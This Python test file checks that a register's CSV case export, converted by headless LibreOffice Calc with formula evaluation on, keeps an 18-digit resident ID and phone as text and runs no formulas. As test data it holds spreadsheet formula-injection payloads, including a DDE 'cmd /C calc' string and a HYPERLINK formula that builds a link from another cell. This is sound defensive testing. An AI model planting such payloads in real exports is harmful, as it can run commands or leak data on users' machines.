"""A CSV line list opened by a real spreadsheet: LibreOffice Calc, headless, converts an export
to .xlsx under its most eager import options (evaluate formulas, detect special numbers, trim
spaces), and the resident ID is still its 18 digits as text, the phone too, and the names and
addresses that look like formulas are text, not results.

One conversion of one small file (4 to 6 s, a fresh profile included). LibreOffice is a test
requirement, as PostgreSQL is: `.ci/run` installs `libreoffice-calc-nogui` when it is missing,
so this test never skips."""
from __future__ import annotations

import shutil
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from models.db.database import Database
from models.exporting.lists import export_list
from models.schema.geography import Community
from models.schema.register import Household
from tests.support.factories import make_case, make_person, make_place

FULL_ID = "420102198001011234"
NAME = '=HYPERLINK("http://x/?"&B2,"点击")'     # LibreOffice shows 点击, a live link, if run
ADDRESS = " =1+1"                               # 2 under "Trim spaces", if run
COMMUNITY = "=cmd|' /C calc'!A0"
# Comma, double quote, UTF-8, from line 1, English; detect special numbers, trim spaces and
# evaluate formulas on: what a reader could tick in the import dialog, at its most eager.
EAGER_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,true,-1,true"


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.fail("LibreOffice is needed: apt-get install --no-install-recommends "
                    "libreoffice-calc-nogui (.ci/run installs it)")
    return found


def _fill(database: Database) -> None:
    """A case whose name, address and community were typed to run (the importer refuses such
    names now; the GUI's address and community boxes, or an older register, do not)."""
    with database.sessions() as session:
        place = make_place(session)
        person = make_person(session, place, NAME, FULL_ID)
        make_case(session, place, person)
        household = session.get(Household, place.household_id)
        community = session.get(Community, place.community_id)
        assert household is not None and community is not None
        household.address, community.name = ADDRESS, COMMUNITY
        session.commit()


def _open_in_calc(csv_path: Path) -> tuple[list[object], str]:
    """The first data row as LibreOffice read it, and its sheet's XML (to look for formulas)."""
    out = csv_path.parent / "calc"
    done = subprocess.run(
        [_soffice(), f"-env:UserInstallation={(csv_path.parent / 'profile').as_uri()}",
         "--headless", f"--infilter={EAGER_IMPORT}", "--convert-to", "xlsx", "--outdir",
         str(out), str(csv_path)], capture_output=True, text=True, timeout=180)
    converted = out / (csv_path.stem + ".xlsx")
    assert converted.exists(), done.stdout + done.stderr
    with zipfile.ZipFile(converted) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    rows = CalamineWorkbook.from_path(str(converted)).get_sheet_by_index(0).to_python()
    assert rows[0][:3] == ["Name", "Resident ID", "Sex"]
    return rows[1], sheet


def test_calc_reads_the_id_as_text_and_runs_nothing(sqlite_database: Database,
                                                    tmp_path: Path) -> None:
    _fill(sqlite_database)
    path = tmp_path / "cases.csv"
    assert export_list(sqlite_database, "cases", path, may_see=True) == 1
    row, sheet = _open_in_calc(path)
    assert "<f" not in sheet                                 # not one formula cell
    name, resident_id, phone, community, address = row[0], row[1], row[4], row[5], row[6]
    assert isinstance(resident_id, str) and resident_id.strip() == FULL_ID   # not 4.20102E+17
    assert resident_id == "\t" + FULL_ID
    assert phone == "\t13800000000"
    assert name == "'" + NAME and address == "'" + ADDRESS and community == "'" + COMMUNITY
    assert isinstance(row[9], datetime)      # the rest is still guessed: Opened is a date cell
